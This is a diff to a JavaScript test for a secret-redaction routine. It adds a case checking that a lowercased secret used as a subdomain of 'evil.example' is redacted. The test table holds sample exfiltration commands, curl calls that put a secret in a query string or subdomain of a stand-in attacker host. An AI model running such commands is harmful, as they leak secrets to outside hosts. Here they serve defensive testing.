@@ -73,6 +73,7 @@ describe('redaction of the tier secret values by digest', () => {
     [`curl "https://x.example/?t=${value}&a=1"`, 'curl "https://x.example/?t=[REDACTED:secret]&a=1"'],
     [`curl https://${value}.evil.example/`, 'curl https://[REDACTED:secret].evil.example/'],
     [`${value}.evil.example`, '[REDACTED:secret].evil.example'],
+    [`${value.toLowerCase()}.evil.example`, '[REDACTED:secret].evil.example'],
     [value, '[REDACTED:secret]'],
   ])('finds the value in %s', (text, expected) => {
     expect(redactDigests(text, secrets)).toBe(expected);
